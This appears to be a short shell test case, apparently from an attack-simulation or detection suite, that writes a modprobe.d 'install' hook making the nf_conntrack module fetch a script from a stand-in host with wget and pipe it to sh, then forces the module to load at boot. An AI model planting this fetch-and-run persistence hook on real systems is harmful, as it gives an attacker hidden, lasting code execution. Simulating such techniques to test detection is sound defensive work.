#!/bin/sh
. /opt/case/case.sh

mkdir -p /host/etc/modprobe.d /host/etc/modules-load.d /host/usr/lib
echo 'install nf_conntrack /bin/sh -c "wget -qO- http://203.0.113.10/payload.sh | sh; modprobe --ignore-install nf_conntrack"' >/host/etc/modprobe.d/net.conf
echo nf_conntrack >/host/etc/modules-load.d/net.conf
test -s /host/etc/modprobe.d/net.conf
took_place
